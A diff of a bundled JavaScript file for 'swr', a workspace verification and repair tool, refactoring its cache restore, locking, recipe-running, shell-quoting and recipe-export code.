+function removeScratch(dir) {
+    try {
+        external_node_fs_default().rmSync(dir, { recursive: true, force: true });
+    }
+    catch {
+        const open = (d) => {
+            external_node_fs_default().chmodSync(d, 0o700);
+            for (const ent of external_node_fs_default().readdirSync(d, { withFileTypes: true }))
+                if (ent.isDirectory())
+                    open(external_node_path_default().join(d, ent.name));
+        };
+        open(dir);
+        external_node_fs_default().rmSync(dir, { recursive: true, force: true });
+    }
+}
+
 // EXTERNAL MODULE: external "node:stream"
 var external_node_stream_ = __webpack_require__(7075);
-;// CONCATENATED MODULE: ./src/core/restore/cache/unpack.ts
+;// CONCATENATED MODULE: ./src/core/archive/unpack.ts
 /**
  * Streaming one compressed cache archive through decompression into the tar reader, stopping the
  * download as soon as the reader refuses a member or has read the end of the archive. zstd is
@@ -7925,11 +8301,6 @@ function provenFinding(e, files, bytes) {
     provenFindings.add(f);
     return f;
 }
-/** Make a fresh 0700 scratch directory below `base`, clearing those a dead run left there. */
-function makeScratch(base, name) {
-    external_node_fs_default().mkdirSync(base, { recursive: true });
-    return leftovers_makeOwnedTemp(base, name);
-}
 /** How a restore says that modes from the archive were masked. */
 function maskedNote(n) {
     return `setuid, setgid, sticky and world-writable bits dropped from ${n} member${n === 1 ? '' : 's'}`;
@@ -7944,7 +8315,7 @@ async function restoreEntry(e, archive, ctx) {
     const scratch = makeScratch(ctx.scratchBase, 'swr-restore');
     try {
         const root = external_node_path_default().join(scratch, 'w');
-        const dest = paths_resolveEntryPath(root, e.path);
+        const dest = resolveEntryPath(root, e.path);
         external_node_fs_default().mkdirSync(external_node_path_default().dirname(dest), { recursive: true, mode: 0o700 });
         const extractor = new EntryExtractor(archive.prefix, dest, expectationOf(e, ctx));
         try {
@@ -7962,7 +8333,7 @@ async function restoreEntry(e, archive, ctx) {
             if (f.status !== 'OK')
                 throw new Rejected(`${f.status}: ${f.detail}${summary.masked ? ` (${maskedNote(summary.masked)})` : ''}`);
         }
-        place(ctx.workspace, dest, paths_resolveEntryPath(ctx.workspace, e.path));
+        place(ctx.workspace, dest, resolveEntryPath(ctx.workspace, e.path));
         return {
             placed: true,
             finding,
@@ -7976,22 +8347,6 @@ async function restoreEntry(e, archive, ctx) {
     }
     finally {
         removeScratch(scratch);
-    }
-}
-/** Remove a scratch directory, even one holding directories restored without write permission. */
-function removeScratch(dir) {
-    try {
-        external_node_fs_default().rmSync(dir, { recursive: true, force: true });
-    }
-    catch {
-        const open = (d) => {
-            external_node_fs_default().chmodSync(d, 0o700);
-            for (const ent of external_node_fs_default().readdirSync(d, { withFileTypes: true }))
-                if (ent.isDirectory())
-                    open(external_node_path_default().join(d, ent.name));
-        };
-        open(dir);
-        external_node_fs_default().rmSync(dir, { recursive: true, force: true });
     }
 }
 
@@ -8034,7 +8389,7 @@ function parentLinkOutside(workspace, entryPath) {
         catch {
             resolved = undefined;
         }
-        if (resolved === undefined || !paths_isInside(real, resolved))
+        if (resolved === undefined || !inside_isInside(real, resolved))
             return { rel: parts.slice(0, i + 1).join('/'), target: targetOf(at) };
     }
     return undefined;
@@ -8052,8 +8407,8 @@ function targetOf(abs) {
 ;// CONCATENATED MODULE: ./src/core/restore/runner.ts
 /**
  * Carrying out a repair plan: wave by wave (steps of a wave in parallel up to `jobs`), each step
- * from its source (escrow, then recipe), each restored entry re-verified at once without the
- * cache. A step whose dependency did not heal is SKIPPED, never attempted. The caller must have
+ * from its sources in the order sources.ts gives (escrow, the saved state, then the manifest's),
+ * each restored entry re-verified at once without the cache. A step whose dependency did not heal is SKIPPED, never attempted. The caller must have
  * asked the gate first; this module refuses to run without an allowed decision.
  */
 
@@ -8071,9 +8426,6 @@ function targetOf(abs) {
 
 
 
-
-const DEFAULT_TIMEOUT_S = 1800;
-const DEFAULT_SHELL = ['bash', '-c'];
 async function runPlan(opts) {
     if (!opts.gate.allowed)
         throw new InternalError('runPlan called without an allowed gate decision');
@@ -8095,7 +8447,7 @@ async function runPlan(opts) {
             opts.onStep?.(r);
         })));
     }
-    return planSteps(opts.plan).map(s => results.get(s.id));
+    return plan_planSteps(opts.plan).map(s => results.get(s.id));
 }
 /** Quarantine is evidence-keeping: failing to copy must not stop the repair, only be reported. */
 function safeQuarantine(entry, opts) {
@@ -8109,23 +8461,6 @@ function safeQuarantine(entry, opts) {
             skipped: `copy failed: ${err instanceof Error ? (err.code ?? err.message) : String(err)}`
         };
     }
-}
-/** Escrow first (local, no code), then the state saved for exactly these expectations, then the declared sources. */
-function sourcesFor(entry, cache) {
-    const out = entry.kind === 'file' && entry.escrow ? [{ kind: 'escrow' }] : [];
-    if (cache)
-        out.push({ kind: 'cache', key: stateKey(entry), restoreKeys: [], auto: true });
-    for (const src of types_restoreSources(entry)) {
-        out.push(typeof src === 'string'
-            ? { kind: 'recipe', command: src }
-            : {
-                kind: 'cache',
-                key: src.cache.key,
-                restoreKeys: src.cache['restore-keys'] ?? [],
-                auto: false
-            });
-    }
-    return out;
 }
 async function runStep(step, entry, done, opts) {
     const base = { id: step.id, source: step.source };
@@ -8148,7 +8483,7 @@ async function runStep(step, entry, done, opts) {
                 attempts: []
             };
     }
-    const sources = sourcesFor(entry, opts.cache);
+    const sources = sourcesOf(entry, { savedState: opts.cache !== undefined });
     if (sources.length === 0)
         return {
             ...base,
@@ -8237,7 +8572,7 @@ async function runStep(step, entry, done, opts) {
 function defaultRestore(opts) {
     return {
         scratchBase: opts.callerEnv.RUNNER_TEMP || external_node_os_default().tmpdir(),
-        readIndex: (id, ref) => readIndex(indexPath(opts.manifest.file, id), ref),
+        readIndex: (id, ref) => readIndex(tree_index_indexPath(opts.manifest.file, id), ref),
         verifyAt: async (root, e) => {
             const [f] = await opts.reverifyAt(root, [e]);
             if (!f)
@@ -8247,7 +8582,7 @@ function defaultRestore(opts) {
     };
 }
 async function trySource(src, entry, opts) {
-    const abs = paths_resolveEntryPath(opts.manifest.workspace, entry.path);
+    const abs = resolveEntryPath(opts.manifest.workspace, entry.path);
     switch (src.kind) {
         case 'escrow':
             if (entry.kind !== 'file')
@@ -8286,10 +8621,10 @@ async function trySource(src, entry, opts) {
                         source: 'cache',
                         outcome: 'miss',
                         key: src.key,
-                        detail: `cache miss for ${src.key}${src.auto ? ' (saved state)' : ''}`
+                        detail: `cache miss for ${src.key}${src.savedState ? ' (saved state)' : ''}`
                     }
                 };
-            const how = `cache ${hit.exact ? 'exact hit' : `restore-keys prefix hit ${hit.matchedKey}`}${src.auto ? ' (saved state)' : ''}`;
+            const how = `cache ${hit.exact ? 'exact hit' : `restore-keys prefix hit ${hit.matchedKey}`}${src.savedState ? ' (saved state)' : ''}`;
             const r = await restoreEntry(entry, hit, {
                 workspace: opts.manifest.workspace,
                 ...(opts.cacheRestore ?? defaultRestore(opts))
@@ -8314,24 +8649,22 @@ async function trySource(src, entry, opts) {
             };
         }
         case 'recipe': {
-            const timeoutS = opts.timeoutS ?? entry.timeout_s ?? DEFAULT_TIMEOUT_S;
-            const secrets = (entry.secret_env ?? [])
-                .map(n => opts.callerEnv[n])
-                .filter((v) => v !== undefined);
-            const result = await runRecipe({
-                id: entry.id,
+            const timeoutS = opts.timeoutS ?? entry.timeout_s ?? signed_command_RECIPE_TIMEOUT_S;
+            const result = await signed_command_runSignedCommand({
+                entry,
                 command: src.command,
-                shell: opts.manifest.body.shell ?? DEFAULT_SHELL,
+                shell: opts.manifest.body.shell,
                 cwd: opts.manifest.workspace,
-                env: minimalEnv(opts.callerEnv, [...(entry.env ?? []), ...(entry.secret_env ?? [])]),
                 timeoutMs: timeoutS * 1000
             }, {
+                gate: opts.gate,
+                callerEnv: opts.callerEnv,
+                secretScan: await secret_scan_loadSecretScan(),
                 abort: opts.abort,
-                onLine: opts.onLine,
-                scrub: makeLineScrubber(secrets, await secret_scan_loadSecretScan())
+                onLine: opts.onLine
             });
             const { id: _id, ...recipe } = result;
-            const how = `recipe ${describeResult(result, timeoutS * 1000)}`;
+            const how = `recipe ${recipe_describeResult(result, timeoutS * 1000)}`;
             if (result.interrupted)
                 return { recipe, attempt: { source: 'recipe', outcome: 'interrupted', detail: how } };
             if (result.timedOut || result.exitCode !== 0)
@@ -8405,10 +8738,43 @@ async function lockWorkspace(opts) {
         throw lockError(err, opts.subject);
     }
 }
+/**
+ * Run `fn` holding the lock on `opts.subject`, released however `fn` ends. A lock lost while held
+ * (the state directory wiped mid-run) ends the run with EXIT.CONFLICT and one line, even when what
+ * `fn` did next failed for that reason (a journal in a wiped state directory).
+ */
+async function lock_withLock(opts, fn) {
+    let lost;
+    const { label, onLost, ...lock } = opts;
+    const release = await lockWorkspace({
+        ...lock,
+        onLost: why => {
+            lost = `lost the lock on ${label ?? opts.subject}: ${why}`;
+            onLost?.(lost);
+        }
+    });
+    try {
+        let result;
+        try {
+            result = await fn();
+        }
+        catch (err) {
+            if (lost)
+                throw new errors_SwrError(lost, errors_EXIT.CONFLICT);
+            throw err;
+        }
+        if (lost)
+            throw new errors_SwrError(lost, errors_EXIT.CONFLICT);
+        return result;
+    }
+    finally {
+        await release();
+    }
+}
 async function acquire(opts) {
-    const dir = ensurePrivateDir(opts.stateDir, 'locks');
-    const key = createHash('sha256').update(canonicalPath(opts.subject)).digest('hex').slice(0, 32);
-    const p = { stateDir: opts.stateDir, dir, key, lock: path.join(dir, `${key}.lock`) };
+    const dir = state_dir_ensurePrivateDir(opts.stateDir, 'locks');
+    const key = (0,external_node_crypto_.createHash)('sha256').update(canonicalPath(opts.subject)).digest('hex').slice(0, 32);
+    const p = { stateDir: opts.stateDir, dir, key, lock: external_node_path_default().join(dir, `${key}.lock`) };
     const staleMs = opts.staleMs ?? 10_000;
     const note = newNote();
     const deadline = Date.now() + opts.waitMs;
@@ -8424,9 +8790,9 @@ async function acquire(opts) {
         if (verdict.stale && removeStale(p, seen, staleMs))
             continue;
         if (opts.abort?.aborted)
-            throw new SwrError(`interrupted while waiting for the lock on ${opts.subject}`, EXIT.INTERRUPTED);
+            throw new errors_SwrError(`interrupted while waiting for the lock on ${opts.subject}`, errors_EXIT.INTERRUPTED);
         if (Date.now() >= deadline) {
-            throw new SwrError(`${opts.subject} is locked by another swr run (${verdict.holder}); gave up after ${Math.round(opts.waitMs / 1000)} s`, EXIT.UNREPAIRABLE);
+            throw new errors_SwrError(`${opts.subject} is locked by another swr run (${verdict.holder}); gave up after ${Math.round(opts.waitMs / 1000)} s`, errors_EXIT.UNREPAIRABLE);
         }
         if (!warned) {
             opts.onWait?.(verdict.holder);
@@ -8438,7 +8804,7 @@ async function acquire(opts) {
 /** Take the lock if it is free: true when this call created it. */
 function create(p, note, again = true) {
     try {
-        fs.symlinkSync(note, p.lock);
+        external_node_fs_default().symlinkSync(note, p.lock);
         return true;
     }
     catch (err) {
@@ -8448,7 +8814,7 @@ function create(p, note, again = true) {
             throw err;
     }
     // The state directory was removed meanwhile: make it again, once.
-    ensurePrivateDir(p.stateDir, 'locks');
+    state_dir_ensurePrivateDir(p.stateDir, 'locks');
     return create(p, note, false);
 }
 /**
@@ -8462,7 +8828,7 @@ function hold(p, note, opts) {
     const timer = setInterval(() => {
         let now;
         try {
-            now = fs.readlinkSync(p.lock);
+            now = external_node_fs_default().readlinkSync(p.lock);
         }
         catch (err) {
             if (code(err) === 'ENOENT')
@@ -8475,7 +8841,7 @@ function hold(p, note, opts) {
             return lose('another process took it over');
         const t = new Date();
         try {
-            fs.lutimesSync(p.lock, t, t);
+            external_node_fs_default().lutimesSync(p.lock, t, t);
         }
         catch {
             // Only a waiter on another host reads the refresh time; the next tick tries again.
@@ -8496,7 +8862,7 @@ function hold(p, note, opts) {
         process.removeListener('exit', letGo);
         try {
             // The record first: killed between the two, swr leaves a dead note with nothing beside it.
-            fs.rmSync(groups, { force: true });
+            external_node_fs_default().rmSync(groups, { force: true });
             removeIfStill(p, p.lock, note, Infinity);
         }
         catch {
@@ -8509,10 +8875,10 @@ function hold(p, note, opts) {
 /** The lock as it is now, without following it; undefined when there is none. */
 function look(file) {
     try {
-        const st = fs.lstatSync(file);
+        const st = external_node_fs_default().lstatSync(file);
         if (!st.isSymbolicLink())
             return { note: undefined, mtimeMs: st.mtimeMs };
-        return { note: fs.readlinkSync(file), mtimeMs: st.mtimeMs };
+        return { note: external_node_fs_default().readlinkSync(file), mtimeMs: st.mtimeMs };
     }
     catch (err) {
         if (code(err) === 'ENOENT')
@@ -8541,17 +8907,17 @@ function removeStale(p, seen, staleMs) {
         // A directory an older swr left (its refresh long past): rmdir never removes a link, so a
         // lock taken meanwhile is safe from it.
         try {
-            fs.rmdirSync(p.lock);
+            external_node_fs_default().rmdirSync(p.lock);
         }
         catch {
             return false;
         }
-        fs.rmSync(path.join(p.dir, `${p.key}.holder`), { force: true });
+        external_node_fs_default().rmSync(external_node_path_default().join(p.dir, `${p.key}.holder`), { force: true });
         return true;
     }
     if (!removeIfStill(p, p.lock, seen.note, staleMs))
         return false;
-    fs.rmSync(besideNote(p, seen.note, 'groups'), { force: true });
+    external_node_fs_default().rmSync(besideNote(p, seen.note, 'groups'), { force: true });
     return true;
 }
 /**
@@ -8564,7 +8930,7 @@ function removeStale(p, seen, staleMs) {
 function removeIfStill(p, file, note, staleMs) {
     const guard = besideNote(p, note, 'take');
     try {
-        fs.symlinkSync(newNote(), guard);
+        external_node_fs_default().symlinkSync(newNote(), guard);
     }
     catch (err) {
         if (code(err) !== 'EEXIST')
@@ -8577,11 +8943,11 @@ function removeIfStill(p, file, note, staleMs) {
     try {
         if (readNote(file) !== note)
             return false;
-        fs.unlinkSync(file);
+        external_node_fs_default().unlinkSync(file);
         return true;
     }
     finally {
-        fs.rmSync(guard, { force: true });
+        external_node_fs_default().rmSync(guard, { force: true });
     }
 }
 /** A guard is held for a few system calls: one whose creator is gone, or that is old, is left over. */
@@ -8591,7 +8957,7 @@ function guardStale(seen, staleMs) {
 }
 function readNote(file) {
     try {
-        return fs.readlinkSync(file);
+        return external_node_fs_default().readlinkSync(file);
     }
     catch {
         return undefined;
@@ -8599,8 +8965,8 @@ function readNote(file) {
 }
 /** The file beside the lock that belongs to the generation `note` names. */
 function besideNote(p, note, ext) {
-    const tag = createHash('sha256').update(note).digest('hex').slice(0, 16);
-    return path.join(p.dir, `${p.key}.${tag}.${ext}`);
+    const tag = (0,external_node_crypto_.createHash)('sha256').update(note).digest('hex').slice(0, 16);
+    return external_node_path_default().join(p.dir, `${p.key}.${tag}.${ext}`);
 }
 /**
  * Record the running recipe groups as "pgid start,pgid start": a link again, made beside and
@@ -8610,10 +8976,10 @@ function besideNote(p, note, ext) {
 function recordGroups(file, groups) {
     try {
         if (groups.length === 0)
-            return fs.rmSync(file, { force: true });
-        const tmp = `${file}.${randomBytes(6).toString('hex')}.tmp`;
-        fs.symlinkSync(groups.map(g => `${g.pgid} ${g.start ?? '-'}`).join(','), tmp);
-        fs.renameSync(tmp, file);
+            return external_node_fs_default().rmSync(file, { force: true });
+        const tmp = `${file}.${(0,external_node_crypto_.randomBytes)(6).toString('hex')}.tmp`;
+        external_node_fs_default().symlinkSync(groups.map(g => `${g.pgid} ${g.start ?? '-'}`).join(','), tmp);
+        external_node_fs_default().renameSync(tmp, file);
     }
     catch {
         // The state directory gone: the refresh reports the lock lost; the recipe must not fail here.
@@ -8633,8 +8999,8 @@ function newNote() {
     if (ownStart === null)
         ownStart = startTime(process.pid);
     const start = ownStart ? ` start ${ownStart}` : '';
-    const id = randomBytes(6).toString('hex');
-    return `pid ${process.pid} host ${os.hostname()}${start} since ${new Date().toISOString()} id ${id}`;
+    const id = (0,external_node_crypto_.randomBytes)(6).toString('hex');
+    return `pid ${process.pid} host ${external_node_os_default().hostname()}${start} since ${new Date().toISOString()} id ${id}`;
 }
 /** The note on one line without its generation id, for a person. */
 function display(note) {
@@ -8646,7 +9012,7 @@ function display(note) {
 /** Whether the process that wrote `note` runs on this host now (undefined: cannot tell). */
 function holderAlive(note) {
     const m = /^pid (\d+) host (\S+)(?: start (\d+))?/.exec(note);
-    if (!m || m[2] !== os.hostname())
+    if (!m || m[2] !== external_node_os_default().hostname())
         return undefined;
     return processRuns(Number(m[1]), m[3]);
 }
@@ -8655,14 +9021,14 @@ function code(err) {
 }
 /** Any failure to take the lock as one line naming its subject, never a raw system error. */
 function lockError(err, subject) {
-    if (err instanceof SwrError)
+    if (err instanceof errors_SwrError)
         return err;
     const disk = diskError(err, `the lock on ${subject}`);
     if (disk)
         return disk;
     // A system error's message names its call and file ("EEXIST: file already exists, mkdir ...").
     const why = (err instanceof Error ? err.message : String(err)).split('\n')[0];
-    return new SwrError(`cannot take the lock on ${subject}: ${why}`, EXIT.WRITE_FAILED);
+    return new errors_SwrError(`cannot take the lock on ${subject}: ${why}`, errors_EXIT.WRITE_FAILED);
 }
 
 ;// CONCATENATED MODULE: ./src/core/sign/version-memory.ts
@@ -8704,7 +9070,7 @@ function readOne(file) {
         return undefined;
     }
 }
-function recall(stateDir, manifestFile, scope) {
+function version_memory_recall(stateDir, manifestFile, scope) {
     // The spelled-path key is read too: memory written before keys were real paths.
     const files = [
         ...memoryFiles(stateDir, manifestFile, scope),
@@ -8719,8 +9085,8 @@ function recall(stateDir, manifestFile, scope) {
     return best;
 }
 /** Remember an accepted manifest under each of its keys; never lowers what is remembered. */
-function remember(stateDir, manifestFile, r, scope) {
-    const old = recall(stateDir, manifestFile, scope);
+function version_memory_remember(stateDir, manifestFile, r, scope) {
+    const old = version_memory_recall(stateDir, manifestFile, scope);
     if (old && old.version > r.version)
         return;
     try {
@@ -8823,6 +9189,7 @@ function openJournal(stateDir, workspace, digest, now, resume) {
 
 
 
+
 async function repairManifest(m, opts) {
     const hooks = opts.hooks ?? {};
     const verify = (cache, known) => verifySelection(m, {
@@ -8837,7 +9204,9 @@ async function repairManifest(m, opts) {
     const reportFor = (c) => reportOf(m, c, { version: opts.version, command: opts.mode });
     const first = await verify(opts.cache !== false);
     const before = reportFor(first);
-    const plan = planRepair(m.body.entries, first.findings);
+    const plan = plan_planRepair(m.body.entries, first.findings, {
+        savedState: opts.cacheClient !== undefined
+    });
     hooks.onCheck?.(before, plan);
     const finish = (outcome, steps, final, gate, harmed = []) => {
         const repair = {
@@ -8869,7 +9238,7 @@ async function repairManifest(m, opts) {
     if (!gate.allowed)
         return finish('refused', [], before, gate);
     if (opts.rememberAccepted)
-        remember(opts.stateDir, m.file, { version: m.body.version, digest: m.digest }, m.body.scope);
+        version_memory_remember(opts.stateDir, m.file, { version: m.body.version, digest: m.digest }, m.body.scope);
     const resumed = opts.resume ? resumeState(opts.stateDir, m.workspace, m.digest) : undefined;
     const already = resumed?.repaired ?? new Set();
     if (resumed)
@@ -8881,7 +9250,7 @@ async function repairManifest(m, opts) {
         plan,
         gate,
         callerEnv: opts.callerEnv,
-        reverify: reverifier(m, reverify),
+        reverify: selection_reverifier(m, reverify),
         reverifyAt: scratchVerifier(m, reverify),
         jobs: opts.jobs ?? 1,
         timeoutS: opts.timeoutS,
@@ -8908,7 +9277,14 @@ async function repairManifest(m, opts) {
         : finalFindings(await verify(false, proven), steps, false));
     const harmed = collateral(first.findings, final.results, steps);
     hooks.onFinal?.(final);
-    return finish(verdict(final, steps, interrupted, harmed), steps, final, gate, harmed);
+    const outcome = verdict(final, steps, interrupted, harmed);
+    // Steps that failed on a filesystem with no room left say nothing about the entries.
+    if (outcome === 'unrepairable' || outcome === 'still-damaged') {
+        const full = steps.some(s => s.outcome !== 'repaired') ? diskFull(m.workspace) : undefined;
+        if (full)
+            throw full;
+    }
+    return finish(outcome, steps, final, gate, harmed);
 }
 /**
  * Entries that verified before the repair and do not after it: damage a recipe did on the side.
@@ -8964,323 +9340,239 @@ function verdict(final, steps, interrupted, harmed) {
     return 'unrepairable';
 }
 
-;// CONCATENATED MODULE: ./src/core/capture.ts
+;// CONCATENATED MODULE: ./src/core/text/shell-quote.ts
 /**
- * Capturing an entry's expectations from disk, now: the healthy state becomes the truth later
- * checks compare with. Uses the same walk, hashing kernel and digests as the verifiers, so a
- * captured entry verifies by construction.
+ * The one way swr writes a string into shell text it generates (exported recipe scripts, the
+ * command lines it suggests). The result is a single word on a single line whatever the string
+ * holds: a newline in a signed path or a hostile file name can never end a comment or start a
+ * command.
  */
 
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-/** Files at least this large are tracked as blobs unless a kind is given. */
-const capture_BLOB_THRESHOLD = (/* unused pure expression or super */ null && (64 * 1024 * 1024));
-/** Build and project files whose presence at a tree's root says what the tree is. */
-const capture_PROJECT_MARKERS = [
-    'package.json',
-    'CMakeLists.txt',
-    'go.mod',
-    'Cargo.toml',
-    'pyproject.toml',
-    'setup.py',
-    'Makefile',
-    'pom.xml',
-    'build.gradle',
-    'Gemfile'
-];
-/** Markers whose presence at a tree's root makes a good sentinel. */
-const MARKERS = [...capture_PROJECT_MARKERS, 'SKILL.md', 'README.md'];
-/** An id for `rel` that matches the id rule and is not in `taken`. */
-function deriveId(rel, taken) {
-    const base = (rel === '.' ? 'workspace' : rel.split('/').slice(-2).join('-'))
-        .replace(/[^A-Za-z0-9._-]+/g, '-')
-        .replace(/^[.-]+/, '')
-        .slice(0, 100) || 'entry';
-    let id = base;
-    for (let n = 2; taken.has(id); n++)
-        id = `${base}-${n}`;
-    return id;
+const PLAIN = /^[A-Za-z0-9_/.,:@%+=-]+$/;
+function hasControl(s) {
+    for (let i = 0; i < s.length; i++)
+        if (isControl(s.charCodeAt(i)))
+            return true;
+    return false;
 }
-/** The refusal of an id the manifest (or an earlier line of the same batch) already has. */
-function capture_idTaken(id) {
-    return new UsageError(`entry "${id}" already exists in the manifest`);
-}
-async function capture_captureEntry(workspace, req, taken, opts = {}) {
-    const pool = opts.pool ?? {};
-    const loc = locateInside(workspace, req.path);
-    if (loc.state !== 'present')
-        throw new UsageError(`${req.path}: cannot add: ${loc.why}`);
-    const st = loc.st;
-    const kind = req.kind ??
-        (st.isSymbolicLink()
-            ? 'link'
-            : st.isDirectory()
-                ? 'tree'
-                : Number(st.size) >= capture_BLOB_THRESHOLD
-                    ? 'blob'
-                    : 'file');
-    const mode = Number(st.mode & 4095n);
-    const wrongType = (want) => new UsageError(`${req.path}: cannot add as ${kind}: it is not ${want}`);
-    if ((kind === 'file' || kind === 'blob') && !st.isFile())
-        throw wrongType('a regular file');
-    if (kind === 'tree' && !st.isDirectory())
-        throw wrongType('a directory');
-    if (kind === 'link' && !st.isSymbolicLink())
-        throw wrongType('a symlink');
-    const id = req.id ?? deriveId(req.path, taken);
-    if (!ENTRY_ID.test(id))
-        throw new UsageError(`--id ${id}: must match ${ENTRY_ID.source}`);
-    if (taken.has(id))
-        throw capture_idTaken(id);
-    // A secret is tier 0 by default (its loss is a credential loss) and says why it has no escrow.
-    const secret = kind === 'file'
-        ? secretReason({
-            rel: req.path,
-            abs: loc.abs,
-            ...(opts.stateDir !== undefined ? { stateDir: opts.stateDir } : {})
-        })
-        : undefined;
-    const note = req.note ?? (secret !== undefined ? SECRET_NOTE : undefined);
-    const common = {
-        id,
-        path: req.path,
-        tier: req.tier ?? (secret !== undefined ? 0 : defaultTier(kind, req.path, mode)),
-        needs: req.needs ?? [],
-        ...(req.restore !== undefined ? { restore: req.restore } : {}),
-        ...(req.timeout_s !== undefined ? { timeout_s: req.timeout_s } : {}),
-        ...(req.smoke !== undefined ? { smoke: req.smoke } : {}),
-        ...(note !== undefined ? { note } : {})
-    };
-    switch (kind) {
-        case 'file': {
-            if (req.fullHash === false)
-                throw new UsageError(`${req.path}: --no-full-hash is for blobs (add it with --kind blob)`);
-            // Off the main thread when large, so the event loop (lock refresh, signals) stays live.
-            const d = await steadily(req.path, loc.abs, async () => {
-                const r = await hashOne(loc.abs, Number(st.size));
-                if ('error' in r)
-                    throw new UsageError(`${req.path}: cannot read (${r.error})`);
-                return r;
-            });
-            return {
-                entry: { ...common, kind, expect: { size: d.size, sha256: d.sha256, mode: octal(d.mode) } }
-            };
-        }
-        case 'blob': {
-            if (req.fullHash === false) {
-                const ht = await steadily(req.path, loc.abs, async () => hashHeadTail(loc.abs));
-                const expect = { size: ht.size, headtail: ht.sha256, mode: octal(ht.mode) };
-                return { entry: { ...common, kind, expect } };
-            }
-            const { ht, full } = await steadily(req.path, loc.abs, async () => {
-                const ht = hashHeadTail(loc.abs);
-                const full = await hashOne(loc.abs, ht.size);
-                if ('error' in full)
-                    throw new UsageError(`${req.path}: cannot read (${full.error})`);
-                // Two sizes for one file mean it changed between the two reads: -1 matches no state.
-                return { ht, full, size: full.size === ht.size ? ht.size : -1 };
-            });
-            return {
-                entry: {
-                    ...common,
-                    kind,
-                    expect: { size: ht.size, headtail: ht.sha256, sha256: full.sha256, mode: octal(ht.mode) }
-                }
-            };
-        }
-        case 'link': {
-            const target = fs.readlinkSync(loc.abs);
-            // The link verifier's own walk: what it would call BROKENLNK is refused now, not recorded.
-            const end = followInside(workspace, loc.abs, target);
-            if (end.state === 'dangling')
-                throw new UsageError(`${req.path}: cannot add: the symlink -> ${shownName(target)} is broken (${shownName(end.why)}); add it once its target exists`);
-            return { entry: { ...common, kind, expect: { target } } };
-        }
-        case 'tree':
-            return captureTree(fs.realpathSync(loc.abs), req, common, pool, opts.exclude ?? new Set());
+const shell_quote_NAMED = { '\n': '\\n', '\r': '\\r', '\t': '\\t' };
+/**
+ * `word` as one shell word: as it is when plainly safe, else single-quoted; a word holding a
+ * control or bidi character is ANSI-C quoted (`$'a\nb'`, bash, zsh and POSIX.1-2024 shells), so it
+ * still reads back as exactly `word` and never spans two lines.
+ */
+function shell_quote_shellQuote(word) {
+    if (PLAIN.test(word))
+        return word;
+    if (!hasControl(word))
+        return `'${word.replace(/'/g, `'\\''`)}'`;
+    let out = '';
+    for (const ch of word) {
+        const c = ch.codePointAt(0) ?? 0;
+        if (ch === '\\' || ch === "'")
+            out += `\\${ch}`;
+        else if (shell_quote_NAMED[ch])
+            out += shell_quote_NAMED[ch];
+        // UTF-8 bytes, not \u escapes: bash decodes \u by the locale, and a C1 control is two bytes.
+        else if (isControl(c))
+            for (const b of Buffer.from(ch))
+                out += `\\x${b.toString(16).padStart(2, '0')}`;
+        else
+            out += ch;
     }
+    return `$'${out}'`;
 }
+
+;// CONCATENATED MODULE: ./src/core/engine/export-recipes.ts
 /**
- * Capture several entries, three at a time: while the files of some hash on the kernel threads,
- * the main thread walks the next (one by one, the main thread waited for every hash). Ids are
- * derived first, in request order, so they never depend on timing; the results come back in
- * request order, and the error is that of the first request, in that order, that failed.
+ * `export-recipes` as a use case: every restore recipe of the selection as one bash script, in the
+ * order a repair would run them (tiers, then dependencies), for running by hand or in another
+ * tool. Exporting code is running code by another name, so the gate decides first and a refused
+ * manifest yields no script at all. Returns the steps and the finished script.
  */
-async function captureEntries(workspace, reqs, taken, opts = {}) {
-    const seen = new Set(taken);
-    const named = reqs.map(req => {
-        const id = req.id ?? deriveId(req.path, seen);
-        const duplicate = seen.has(id);
-        seen.add(id);
-        return { req: { ...req, id }, duplicate };
-    });
-    const pool = { ...opts.pool, batch: reqs.length > 1 };
-    const limit = pLimit(3);
-    const pending = named.map(({ req, duplicate }) => limit(() => {
-        if (duplicate)
-            throw capture_idTaken(req.id);
-        return capture_captureEntry(workspace, req, taken, { ...opts, pool });
+
+
+
+
+
+
+async function exportRecipes(m, opts) {
+    const gate = await decide(gateInput(m), opts.policy);
+    if (!gate.allowed)
+        throw new SwrError(`export-recipes: refusing to export recipes: ${gate.reason}`, EXIT.UNREPAIRABLE);
+    const entries = selectEntries(m.body.entries, opts.only).filter(e => recipesOf(e).length > 0);
+    const steps = orderedSteps(entries);
+    const lines = [
+        '#!/usr/bin/env bash',
+        // Every manifest string outside the signed recipes goes through shellQuote: one word, one line.
+        `# swr recipes for ${shellQuote(m.file)}`,
+        `# manifest digest ${m.digest}, version ${m.body.version}`,
+        'set -euo pipefail',
+        `cd ${shellQuote(m.workspace)}`
+    ];
+    for (const s of steps)
+        lines.push('', `# tier ${s.tier}: ${shellQuote(s.id)} (${shellQuote(s.path)})${s.after.length ? ` after ${s.after.map(shellQuote).join(', ')}` : ''}`, s.recipes.map(r => `( ${r}\n)`).join(' ||\n'));
+    return {
+        kind: 'export-recipes',
+        gate,
+        manifest: m.file,
+        digest: m.digest,
+        version: m.body.version,
+        steps,
+        script: lines.join('\n') + '\n'
+    };
+}
+/** The entries as a repair plan orders them, each with the ids it comes after. */
+function orderedSteps(entries) {
+    const all = entries.map(e => ({
+        id: e.id,
+        kind: e.kind,
+        path: e.path,
+        tier: e.tier,
+        status: 'MISSING',
+        reason: 'export',
+        detail: '',
+        recorded: {},
+        found: {},
+        cached: false
     }));
-    // Awaited in order below; a later failure must not surface as an unhandled rejection first.
-    for (const p of pending)
-        p.catch(() => undefined);
-    const out = [];
+    const byId = new Map(entries.map(e => [e.id, e]));
+    return planSteps(planRepair(entries, all)).flatMap(step => {
+        const e = byId.get(step.id);
+        return e
+            ? [
+                {
+                    id: e.id,
+                    kind: e.kind,
+                    path: e.path,
+                    tier: e.tier,
+                    after: step.after,
+                    recipes: recipesOf(e)
+                }
+            ]
+            : [];
+    });
+}
+
+;// CONCATENATED MODULE: ./src/core/engine/selftest.ts
+/**
+ * `selftest` as a use case: prove recipes are idempotent, since doctor may run them many times.
+ * Recipes are manifest code, so the gate decides first. Each selected recipe then runs twice in a
+ * scratch copy of the workspace (never the live one), with HOME pointed into the scratch too, and
+ * after each run its entry must verify; with `fromScratch` the entry is removed first, so the
+ * recipe must also recreate it from nothing. Returns each entry's verdict with a line per run,
+ * the symlinks left out of the scratch copy, and whether every recipe passed; the scratch copy is
+ * gone when it returns.
+ *
+ * The scratch copy carries no symlink that could lead outside it (an absolute target, or one that
+ * climbs out), so neither swr nor a recipe writing through one reaches a file outside it. Removing
